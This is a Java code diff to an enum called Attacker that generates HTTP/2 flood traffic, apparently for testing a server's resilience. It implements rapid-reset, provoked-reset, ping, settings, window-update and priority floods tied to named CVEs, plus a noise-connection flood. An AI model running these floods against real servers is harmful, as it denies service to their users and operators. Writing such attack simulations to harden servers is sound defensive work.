@@ -6,8 +6,9 @@ import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.OutputStream;
 import java.net.Socket;
-import java.nio.ByteBuffer;
 import java.util.Random;
+import java.util.function.IntFunction;
+import org.jspecify.annotations.Nullable;
 
 /** Somebody who means harm. */
 enum Attacker {
@@ -27,25 +28,29 @@ enum Attacker {
     }
   },
 
-  /** Has work begun that nobody wants any more. */
-  RESETS("10 connections of HTTP/2, each with 1,000 streams a second opened and reset", 10, 50) {
-    @Override
-    void greet(OutputStream out) throws IOException {
-      out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
-      out.write(frame(SETTINGS, 0, 0, new byte[0]));
-    }
+  /** Has work begun that nobody wants any more (CVE-2023-44487). */
+  RESETS("streams opened and reset", i -> Frames.join(Frames.get(i), Frames.reset(i))),
 
-    @Override
-    void annoy(Socket socket, int turn) throws IOException {
-      var frames = new ByteArrayOutputStream();
-      for (int i = 0; i < STREAMS_A_TURN; i++) {
-        int stream = 2 * (turn * STREAMS_A_TURN + i) + 1;
-        frames.writeBytes(frame(HEADERS, END_OF_STREAM_AND_HEADERS, stream, GET));
-        frames.writeBytes(frame(RST_STREAM, 0, stream, CANCEL));
-      }
-      socket.getOutputStream().write(frames.toByteArray());
-    }
-  },
+  /** The same, but not in one breath: work has begun when it is taken back. */
+  LATE_RESETS(
+      "streams opened, and reset 20 ms later",
+      i -> Frames.join(Frames.get(i), (i > TURN) ? Frames.reset(i - TURN) : new byte[0])),
+
+  /** Has the server reset the streams (CVE-2025-8671). */
+  PROVOKED_RESETS(
+      "streams that the server must reset", i -> Frames.join(Frames.get(i), Frames.room(i, 0))),
+
+  /** Wants to be answered all the time (CVE-2019-9512). */
+  PINGS("pings", i -> Frames.ping()),
+
+  /** The same with what must be applied, too (CVE-2019-9515). */
+  SETTINGS("settings", i -> Frames.settings()),
+
+  /** Gives room that nobody needs. */
+  ROOM("windows opened by one byte", i -> Frames.room(0, 1)),
+
+  /** Says in what order its streams shall be served (CVE-2019-9513). */
+  PRIORITIES("priorities", Frames::priority),
 
   /** Sends what is no HTTP. */
   GARBAGE("500 connections a second, each with 1 KB of noise", 10, 50) {
@@ -62,24 +67,27 @@ enum Attacker {
     }
   };
 
-  private static final int STREAMS_A_TURN = 20;
-  private static final int SETTINGS = 4;
-  private static final int HEADERS = 1;
-  private static final int RST_STREAM = 3;
-  private static final int END_OF_STREAM_AND_HEADERS = 5;
-  private static final byte[] CANCEL = {0, 0, 0, 8};
-
-  /** By HPACK's table: GET, http, /, and an authority. */
-  private static final byte[] GET = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};
+  private static final int FRAMES_A_TURN = 20;
+  private static final int TURN = 2 * FRAMES_A_TURN; // as streams of clients are counted
 
   private final String description;
   private final int connections;
   private final int turnsPerSecond;
+  private final @Nullable IntFunction<byte[]> frames; // of one stream; null for other than HTTP/2
 
   Attacker(String description, int connections, int turnsPerSecond) {
     this.description = description;
     this.connections = connections;
     this.turnsPerSecond = turnsPerSecond;
+    this.frames = null;
+  }
+
+  /** On ten connections of HTTP/2, and 10,000 times a second. */
+  Attacker(String description, IntFunction<byte[]> frames) {
+    this.description = "HTTP/2: 10,000 a second on 10 connections: " + description;
+    this.connections = 10;
+    this.turnsPerSecond = 50;
+    this.frames = frames;
   }
 
   String description() {
@@ -95,19 +103,20 @@ enum Attacker {
   }
 
   /** Says the first words on a new connection. */
-  void greet(OutputStream out) throws IOException {}
+  void greet(OutputStream out) throws IOException {
+    if (frames != null) {
+      out.write(Frames.preface());
+    }
+  }
 
   /** Does what it does again and again; a failure means that a new connection is needed. */
-  void annoy(Socket socket, int turn) throws IOException {}
-
-  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
-    return ByteBuffer.allocate(9 + payload.length)
-        .put((byte) 0)
-        .putShort((short) payload.length)
-        .put((byte) type)
-        .put((byte) flags)
-        .putInt(stream)
-        .put(payload)
-        .array();
+  void annoy(Socket socket, int turn) throws IOException {
+    if (frames != null) {
+      var all = new ByteArrayOutputStream();
+      for (int i = 0; i < FRAMES_A_TURN; i++) {
+        all.writeBytes(frames.apply(turn * TURN + 2 * i + 1));
+      }
+      socket.getOutputStream().write(all.toByteArray());
+    }
   }
 }
